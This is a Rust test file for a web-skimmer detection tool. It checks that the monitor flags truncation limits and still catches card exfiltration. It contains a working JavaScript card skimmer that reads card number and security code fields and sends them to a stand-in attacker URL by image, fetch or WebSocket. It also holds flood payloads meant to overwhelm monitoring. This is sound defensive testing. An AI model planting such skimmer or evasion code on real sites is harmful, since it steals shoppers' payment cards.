//! Caps are findings: floods and limits that drop data raise `capture_truncated` (high, naming
//! the limit and the count), so that flooding the monitor before sending the card is itself an
//! alert; search budgets cover the tail of a large body; per-scan byte budgets keep memory and
//! the database bounded whatever the page serves. Each test plants its flood in the vendor's
//! `reviews.js` of the express checkout (approved while clean), where the canary is typed.

use crate::util::{describe, findings_of, Workspace};
use skimwatch::model::{Finding, FindingKind, ScanReport, Severity};
use skimwatch_testshop::{Origin, Resource, Shop};

/// The express checkout (card fields on the shop page), approved while clean.
fn approved_express(extra: &str) -> Workspace {
    let shop = Shop::start_in_background().expect("start the test shop");
    let url = shop.serve_express_checkout();
    let ws = Workspace::with_page_config(shop, "express", &url, extra);
    ws.approved_baseline();
    ws
}

/// Skimmer core: `ready()` once a Luhn-long number and a security code are typed, `card()`
/// the digits; `SEND` is replaced by how the card leaves.
const SKIM: &str = r#"
!function(){var v=function(i){var e=document.getElementById(i);return e?e.value:""},done=0;
function ready(){return!done&&v("cc-number").replace(/\D/g,"").length>=15&&v("cc-csc").length>=3}
function card(){return v("cc-number").replace(/\D/g,"")}
FLOOD
document.addEventListener("focusout",function(){if(!ready())return;done=1;SEND},!0)}();
"#;

/// Plants `flood` (runs at once) and `send` (runs when the card is complete) in `reviews.js`.
fn plant(ws: &Workspace, flood: &str, send: &str) {
    let code = SKIM.replace("FLOOD", flood).replace("SEND", send).replace("{{EXFIL}}", &ws.shop.exfil_url());
    ws.shop.append_to(Origin::Vendor, "/widgets/reviews.js", &code);
}

/// The `capture_truncated` finding of `limit`, with its checks.
fn truncated<'a>(report: &'a ScanReport, limit: &str) -> &'a Finding {
    let all = findings_of(report, FindingKind::CaptureTruncated);
    let f = all
        .into_iter()
        .find(|f| f.truncation.as_ref().is_some_and(|t| t.limit == limit))
        .unwrap_or_else(|| panic!("no capture_truncated for {limit}:\n{}", describe(report)));
    assert_eq!(f.severity, Severity::High);
    let t = f.truncation.as_ref().unwrap();
    assert!(t.seen > t.kept, "{t:?}");
    assert!(f.title.starts_with("Capture truncated: ") && f.title.contains(&format!("(limit {limit})")), "{}", f.title);
    f
}

fn exfiltration<'a>(report: &'a ScanReport, host: &str, channel: &str) -> &'a Finding {
    findings_of(report, FindingKind::CardExfiltration)
        .into_iter()
        .find(|f| f.destination.as_ref().is_some_and(|d| d.host == host && d.channel == channel))
        .unwrap_or_else(|| panic!("no card_exfiltration to {host} by {channel}:\n{}", describe(report)))
}

#[test]
fn control_the_clean_shop_rescans_without_capture_truncated() {
    let ws = approved_express("settle = \"300ms\"");
    let (code, report) = ws.scan(&[]);
    assert_eq!((code, report.pages[0].findings.len()), (0, 0), "{}", describe(&report));
    assert!(findings_of(&report, FindingKind::CaptureTruncated).is_empty());
}

#[test]
fn request_flood_before_exfiltration_is_truncated_and_the_card_is_still_caught() {
    // The flood is served before the page's own resources, so load waits for it: the generous
    // timeout keeps a busy machine (tests run side by side) from failing the load instead.
    let ws = approved_express("settle = \"300ms\"\ntimeout = \"120s\"");
    // 12,000 requests to the shop at load, then the card to the attacker by image.
    plant(
        &ws,
        r#"for(var i=0;i<12000;i++)fetch("/px.gif?i="+i,{mode:"no-cors"}).catch(function(){});"#,
        r#"new Image().src="{{EXFIL}}?n="+card()"#,
    );
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    // The requests kept are the first and the most recent: the card, sent last, is among them.
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "image");
    assert_eq!(f.severity, Severity::Critical);
    let t = truncated(&report, "max_requests").truncation.as_ref().unwrap();
    assert_eq!(t.kept, 10_000);
    assert!(t.seen >= 12_000, "{t:?}");
}

#[test]
fn eval_flood_past_the_script_cap_names_the_limit_and_the_count() {
    let ws = approved_express("interact = \"none\"\nsettle = \"300ms\"");
    plant(&ws, r#"for(var i=0;i<6000;i++)(0,eval)("window.__f"+i+"="+i);"#, "");
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1);
    let f = truncated(&report, "max_scripts");
    let t = f.truncation.as_ref().unwrap();
    assert_eq!(t.kept, 5_000);
    assert!(t.seen > 6_000, "{t:?}");
    assert!(f.title.contains("5,000 of "), "{}", f.title);
}

#[test]
fn field_access_and_websocket_frame_floods_before_the_card_leaves_by_websocket() {
    let ws = approved_express("settle = \"300ms\"");
    let url = ws.shop.exfil_websocket_url();
    // 3,000 listeners on the card field, each added at its own column (so each is a distinct
    // access, past what the prelude reports), then a socket that sends 11,000 junk frames as
    // soon as it opens, then the card.
    let listeners = "n.addEventListener(\"input\",f);".repeat(3000);
    let flood = format!(
        r#"var n=document.getElementById("cc-number"),f=function(){{}};{listeners}
var ws=new WebSocket("{url}");ws.onopen=function(){{for(var i=0;i<11000;i++)ws.send("junk"+i)}};"#
    );
    plant(&ws, &flood, r#"ws.send(JSON.stringify({n:card()}))"#);
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "websocket");
    assert_eq!(f.destination.as_ref().unwrap().found_in.as_deref(), Some("frame"));
    truncated(&report, "max_reported_accesses");
    truncated(&report, "max_requests");
}

#[test]
fn card_at_the_end_of_a_5_mb_post_body_is_caught() {
    let ws = approved_express("settle = \"300ms\"");
    plant(
        &ws,
        "",
        r#"fetch("{{EXFIL}}",{method:"POST",mode:"no-cors",body:"x".repeat(5*1024*1024)+"&n="+card()}).catch(function(){})"#,
    );
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    let f = exfiltration(&report, &ws.shop.host(Origin::Attacker), "fetch");
    assert_eq!(f.destination.as_ref().unwrap().found_in.as_deref(), Some("body"));
    let t = truncated(&report, "max_haystack").truncation.as_ref().unwrap();
    assert!(t.note.as_deref().is_some_and(|n| n.contains("middle was not")), "{t:?}");
}

#[test]
fn huge_scripts_past_the_per_scan_budget_are_listed_and_the_database_stays_small() {
    let ws = approved_express("interact = \"none\"\nsettle = \"300ms\"");
    // One 30 MB script and twenty 1 MB scripts: 50 MB of source served.
    let filler = |i: usize, mb: usize| {
        let line = format!("window.__big{i}=(window.__big{i}||0)+1;// padding padding padding padding\n");
        Resource::js(line.repeat(mb * 1024 * 1024 / line.len() + 1))
    };
    let mut tags = String::new();
    for i in 0..21 {
        let path = format!("/js/big{i}.js");
        ws.shop.set_resource(Origin::Shop, &path, filler(i, if i == 0 { 30 } else { 1 }));
        tags.push_str(&format!("<script src=\"{path}\"></script>\n"));
    }
    ws.shop.edit(Origin::Shop, "/checkout/express", |page| {
        let at = page.body.rfind("</body>").unwrap();
        page.body.insert_str(at, &tags);
    });
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{:?} {}", report.pages[0].error, describe(&report));
    truncated(&report, "max_source_bytes");
    truncated(&report, "max_script_bytes");
    // Every script is still listed, by URL, whatever was kept of it.
    let scripts = &report.pages[0].scripts;
    for i in 0..21 {
        assert!(scripts.iter().any(|s| s.id == format!("self:/js/big{i}.js")), "big{i}.js not listed");
    }
    let kept: u64 = scripts.iter().map(|s| s.bytes).sum();
    assert!(kept <= 17 * 1024 * 1024, "{kept} bytes of source kept");
    // The state folder (SQLite and its journal) holds far less than what was served.
    let state: u64 =
        std::fs::read_dir(ws.dir.path().join("state")).unwrap().map(|e| e.unwrap().metadata().unwrap().len()).sum();
    assert!(state < 30 * 1024 * 1024, "state is {state} bytes for 50 MB served");
}

#[test]
fn worker_flood_past_the_target_cap_names_the_limit() {
    let ws = approved_express("interact = \"none\"\nsettle = \"1s\"");
    // 60 workers: the monitor attaches to 50 and says that it stopped there.
    plant(
        &ws,
        r#"var w=[];for(var i=0;i<60;i++)w.push(new Worker(URL.createObjectURL(new Blob(["setInterval(function(){},1000)"]))));"#,
        "",
    );
    let (code, report) = ws.scan(&[]);
    assert_eq!(code, 1, "{}", describe(&report));
    let t = truncated(&report, "max_targets").truncation.as_ref().unwrap();
    assert_eq!(t.kept, 50, "{t:?}");
}
